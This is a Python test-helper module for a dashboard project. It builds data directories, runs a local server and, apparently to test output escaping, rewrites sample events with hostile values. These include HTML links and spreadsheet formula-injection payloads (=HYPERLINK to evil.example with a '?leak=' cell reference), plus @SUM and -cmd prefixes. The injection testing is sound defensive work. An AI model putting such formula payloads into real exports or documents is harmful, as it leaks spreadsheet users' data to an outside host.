"""Shared helpers for the dashboard tests: build a data dir, run a server.

chDB opens one data path per process at a time: a test holds at most one
warehouse open and closes every client (``seamline.warehouse.close_all``)
before another data dir is opened.
"""

from __future__ import annotations

import threading
import time
import urllib.request
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
SAMPLE = REPO / "sample_data" / "events.jsonl.gz"
SCREENSHOTS = REPO / "test-artifacts" / "screenshots"


def close_engines() -> None:
    from seamline.metadata import dispose_all
    from seamline.queries import clear_cache
    from seamline.warehouse import close_all

    close_all()
    dispose_all()
    clear_cache()


def sample_file(tmp: Path) -> Path:
    """The shared sample, or a small generated one when it is missing."""
    if SAMPLE.is_file():
        return SAMPLE
    from seamline.sample import generate

    out = tmp / "events.jsonl.gz"
    generate(out, customers=300, days=30)
    return out


def build_data_dir(data_dir: Path, events: Path | None) -> None:
    """Load ``events`` (if any) into a fresh data dir and run every job."""
    from seamline.config import Settings
    from seamline.load import load_paths
    from seamline.metadata import Metadata
    from seamline.runner import run_jobs
    from seamline.warehouse import Warehouse
    from seamline.warehouse.schema import migrate

    settings = Settings(data_dir=data_dir)
    wh = Warehouse.from_settings(settings)
    migrate(wh)
    if events is not None:
        load_paths(wh, [events], settings.hash_salt)
        results = run_jobs(wh, Metadata(settings.metadata_dsn), settings)
        failed = [r for r in results if r.status != "success"]
        assert not failed, failed
    close_engines()


class ServerThread:
    """The real waitress server (make_server) in a thread on a free port."""

    def __init__(self, data_dir: Path, scheduler: bool = False, **settings_kw):
        from seamline.config import Settings
        from seamline.serve import make_server

        self.data_dir = data_dir
        self.settings = Settings(data_dir=data_dir, **settings_kw)
        self.server = make_server(self.settings, "127.0.0.1", 0, scheduler=scheduler)
        self.url = self.server.url
        self.thread = threading.Thread(target=self.server.run, daemon=True)
        self.thread.start()
        deadline = time.time() + 20
        while True:
            try:
                with urllib.request.urlopen(self.url + "/healthz", timeout=5) as r:
                    r.read()
                break
            except Exception:
                if time.time() > deadline:
                    raise
                time.sleep(0.1)

    def stop(self) -> None:
        self.server.close()
        self.thread.join(timeout=10)
        close_engines()


@pytest.fixture(scope="session")
def sample_events(tmp_path_factory) -> Path:
    return sample_file(tmp_path_factory.mktemp("sample"))


# Hostile text: event values a browser or a spreadsheet would run ---------------
LINK = '<a href="https://evil.example/">x</a>'
BOLD = "<b>bold</b>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# each renamed value keeps its original inside, so the renames are one-to-one
# and every job (rules join on product, subject and status) finds what it did
CHANNELS = {"chat": LINK, "social": BOLD, "sms": "+1"}
SOURCES = {"crm": BOLD, "support": "@sum(1+1)"}
TOPICS = {"billing": LINK, "delivery": '=hyperlink("http://evil.example/","x")'}
STATUS_PREFIXES = ("-cmd ", "\r", "@SUM(1+1) ")


def hostile_sample(src: Path, out: Path) -> Path:
    """The sample with hostile channel, source, topic and attrs values."""
    import gzip
    import json
    import zlib

    with gzip.open(src, "rt", encoding="utf-8") as fin, gzip.open(out, "wt", encoding="utf-8") as fout:
        for line in fin:
            try:
                ev = json.loads(line)
            except ValueError:
                ev = None
            if isinstance(ev, dict):
                for key, renames in (("channel", CHANNELS), ("source", SOURCES), ("topic", TOPICS)):
                    if ev.get(key) in renames:
                        ev[key] = renames[ev[key]]
                attrs = ev.get("attrs") if isinstance(ev.get("attrs"), dict) else {}
                if "product" in attrs:
                    attrs["product"] = f'=HYPERLINK("http://evil.example/?leak="&A1,"{attrs["product"]}")'
                if "subject" in attrs:
                    attrs["subject"] = "\t" + attrs["subject"]
                if "status" in attrs:  # an order's statuses get different prefixes
                    st = attrs["status"]
                    attrs["status"] = STATUS_PREFIXES[zlib.crc32(st.encode()) % len(STATUS_PREFIXES)] + st
                line = json.dumps(ev) + "\n"
            fout.write(line)
    return out
